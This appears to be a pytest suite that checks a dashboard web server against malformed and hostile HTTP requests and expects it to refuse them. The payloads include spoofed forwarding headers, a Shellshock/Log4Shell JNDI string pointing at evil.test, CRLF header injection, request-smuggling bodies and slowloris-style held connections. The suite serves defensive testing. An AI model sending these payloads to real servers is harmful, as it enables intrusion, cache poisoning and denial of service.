"""Requests that are no reader's: headers that lie or break out, bodies, and those that never end."""

import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from lutondash.site.headers import policy
from lutondash.web.headers import scripts
from tests.attack.attacking import STREAM, Said, Target

LIES = (
    "X-Forwarded-For: 10.0.0.1",
    "X-Forwarded-For: 127.0.0.1, ::1, <script>",
    "X-Forwarded-Host: evil.test",
    "X-Forwarded-Proto: javascript",
    "X-Forwarded-Prefix: //evil.test",
    "Forwarded: for=127.0.0.1;host=evil.test;proto=https",
    "X-Original-URL: /_stcore/metrics",
    "X-Rewrite-URL: /_stcore/metrics",
    "X-Real-IP: 127.0.0.1",
    "X-HTTP-Method-Override: DELETE",
    "X-Script-Name: //evil.test",
    "Range: bytes=0-0,1-1,2-2",
    "Accept-Encoding: " + "gzip, " * 2000,
    "Accept-Encoding: br;q=nan, *;q=1e999",
    "If-None-Match: " + '"' * 3000,
    "Cookie: " + "a=b; " * 3000,
    "Referer: javascript:alert(1)",
    "User-Agent: () { :; }; ${jndi:ldap://evil.test/a}",
    "Save-Data: on\x0bX: y",
)
HOSTS = (
    "evil.test",
    "dashboard.test@evil.test",
    "dashboard.test:80@evil.test",
    "dashboard.test, evil.test",
    "",
)
ODD = (
    b"GET / HTTP/1.1\r\nHost: dashboard.test\r\nHost: evil.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost : dashboard.test\r\n\r\n",
    b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
    b"GET /\r\nSet-Cookie:a=b HTTP/1.1\r\nHost: dashboard.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: dashboard.test\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: dashboard.test\r\nContent-Length: -1\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    bytes(range(256)),
    b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 20_000,
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: dashboard.test\r\n\r\n",
)
"""Requests that servers have understood in two ways, or that are none."""
BEGUN = (
    b"",
    b"G",
    b"GET / HTTP/1.1\r\nHost: dashboard.test\r\nX-A: ",
    b"POST / HTTP/1.1\r\nContent-Length: 9\r\n\r\nx",
)


def bears_the_policy(said: Said) -> None:
    """Assert that the policy is there once, and that nothing was set in the reader's browser."""
    assert said.all("content-security-policy") == [policy(scripts())]
    assert not said.all("set-cookie")
    assert not [value for _, value in said.headers if "evil.test" in value]


@pytest.mark.parametrize("lie", LIES, ids=lambda lie: lie[:24])
def test_a_header_that_lies_is_not_believed(target: Target, whole: bytes, lie: str) -> None:
    """Nobody said that a proxy stands before the server: the page is the same, whoever claims what."""
    said = target.ask("/", lie)
    bears_the_policy(said)
    assert said.status in (200, 400)
    assert said.status == 400 or b"evil.test" not in said.body
    assert target.ask("/_stcore/metrics", lie).status in (400, 404)
    assert said.status == 400 or said.all("content-encoding") or said.body == whole


@pytest.mark.parametrize("host", HOSTS)
def test_by_a_name_that_is_not_ours_nothing_is_served(target: Target, host: str) -> None:
    """Nor is that name repeated."""
    said = target.ask("/about/", f"Host: {host}")
    bears_the_policy(said)
    assert said.status in (400, 421)
    assert b"evil.test" not in said.body


def test_no_header_of_an_answer_is_written_by_a_reader(target: Target) -> None:
    """Line ends in an address become no header, where it is led on without its last slash too."""
    for address in (
        "/x%0d%0aSet-Cookie:%20a=b/",
        "/about/?q=%0d%0aSet-Cookie:%20a=b",
        "/%E5%98%8D%E5%98%8ASet-Cookie:a=b/",
    ):
        said = target.ask(address)
        bears_the_policy(said)
        assert said.status in (308, 404)
        assert all("\n" not in value and "\r" not in value for _, value in said.headers)


@pytest.mark.parametrize("words", ODD, ids=lambda words: ascii(words[:20]))
def test_what_is_no_request_is_refused(target: Target, words: bytes) -> None:
    """In words and with the policy, or by hanging up."""
    said = target.send(words)
    assert said.status in (0, 400, 405, 413, 414, 421, 431)
    if said.status:
        bears_the_policy(said)
        assert b"Traceback" not in said.body


@pytest.mark.parametrize(
    "lines",
    [
        ["Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: short"],
        ["Sec-WebSocket-Version: 1", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="],
        ["Sec-WebSocket-Version: 13"],
    ],
    ids=["key", "version", "no key"],
)
def test_what_is_no_handshake_is_refused(target: Target, lines: list[str]) -> None:
    """In words and with the policy."""
    head = [f"GET {STREAM} HTTP/1.1", "Host: dashboard.test", "Upgrade: websocket", "Connection: Upgrade"]
    said = target.send("\r\n".join([*head, *lines, "", ""]).encode())
    assert said.status in (400, 426)
    bears_the_policy(said)


@pytest.mark.parametrize(
    "path", ["/", "/_stcore/upload_file/a/b", "/media/x", "/_stcore/agent/interact", STREAM]
)
@pytest.mark.parametrize("method", [b"POST", b"PUT", b"DELETE", b"OPTIONS", b"PATCH", b"TRACE"])
def test_nothing_can_be_sent(target: Target, path: str, method: bytes) -> None:
    """Large or small; the body is not waited for."""
    begun = time.monotonic()
    said = target.ask(path, "Content-Length: 900000000", "Origin: https://dashboard.test", method=method)
    assert said.status in (405, 413)
    assert not said.all("access-control-allow-origin")
    assert time.monotonic() - begun < 5


def held(target: Target, many: int) -> Iterator[list[socket.socket]]:
    """Begin many requests and end none."""
    opened = [socket.create_connection(target.place, timeout=1) for _ in range(many)]
    try:
        for at, each in enumerate(opened):
            each.sendall(BEGUN[at % len(BEGUN)])
        yield opened
    finally:
        for each in opened:
            each.close()


def test_many_who_never_finish_asking_keep_nobody_out(target: Target, whole: bytes) -> None:
    """While hundreds hold a half request, others are served."""
    with contextmanager(held)(target, 300):
        target.still_serves(whole)


@pytest.mark.thorough
def test_drops_that_go_on_coming_save_no_request(target: Target, whole: bytes) -> None:
    """A thousand half requests are ended in time, however slowly they go on, and others are served."""
    with contextmanager(held)(target, 900) as opened:
        begun = time.monotonic()
        target.still_serves(whole)
        assert all(ended(each, begun) for each in opened[::100])


def ended(connection: socket.socket, begun: float) -> bool:
    """Drip on a connection until the server ends it; say whether it did within twice its patience."""
    while time.monotonic() - begun < 20:
        try:
            connection.sendall(b"a")
            if not connection.recv(65536):
                return True
        except TimeoutError:
            continue
        except ConnectionError:
            return True
    return False
